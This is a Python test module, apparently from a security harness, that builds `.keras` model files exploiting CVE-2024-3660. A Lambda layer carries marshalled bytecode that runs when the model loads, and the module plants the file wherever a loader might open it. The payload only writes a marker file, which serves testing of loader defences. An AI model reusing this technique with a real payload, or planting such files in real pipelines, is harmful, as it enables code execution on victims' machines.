"""Run bytecode from a Lambda layer in a `.keras` file (CVE-2024-3660), given as a run or in one."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile

from _run import Place, Variant, main

STRAY = "a run opens its own files only, and none of that name"


def lambda_layer(place: Place) -> dict:
    """A layer that writes the marker when it is called."""
    source = f"lambda x: (open({str(place.marker)!r}, 'w').write('ran'), x)[1]"
    code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
    function = {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "evil", "function": function},
    }


def keras_file(config: dict) -> bytes:
    """A `.keras` file, which is a zip, with this config."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr("config.json", json.dumps(config))
        file.writestr(
            "metadata.json",
            json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}),
        )
        file.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    return content.getvalue()


def model(*layers: dict) -> dict:
    """A Sequential of these layers."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": list(layers)},
    }


def instead_of_the_run(place: Place, content: bytes) -> None:
    """A file where the victim expects a folder."""
    place.run.rename(place.run.with_name("was"))
    place.run.write_bytes(content)


def beside_the_weights(place: Place, content: bytes) -> None:
    """Under the names by which Keras would find it."""
    for name in ("model.keras", "model.h5", "model.weights.h5", "config.json", "saved_model.pb"):
        (place.run / name).write_bytes(content)


def as_the_weights(place: Place, content: bytes) -> None:
    """In the place of what is opened."""
    import _build

    _build.text(place.run, "model.safetensors", content)


def as_an_epoch(place: Place, content: bytes) -> None:
    """In the place of a kept epoch."""
    import _build

    path = _build.epoch(place.run)
    path.write_bytes(content)
    _build.seal_again(path)


def four(what: str, make) -> list[Variant]:
    """A file in each of the places where it could be opened."""
    return [
        Variant(f"{what} as the run", lambda p: instead_of_the_run(p, make(p))),
        Variant(
            f"{what} beside the weights", lambda p: beside_the_weights(p, make(p)), harmless=STRAY
        ),
        Variant(f"{what} as the weights", lambda p: as_the_weights(p, make(p))),
        Variant(f"{what} as a kept epoch", lambda p: as_an_epoch(p, make(p))),
    ]


VARIANTS = four("Lambda in .keras", lambda p: keras_file(model(lambda_layer(p))))

if __name__ == "__main__":
    main(__doc__, VARIANTS)
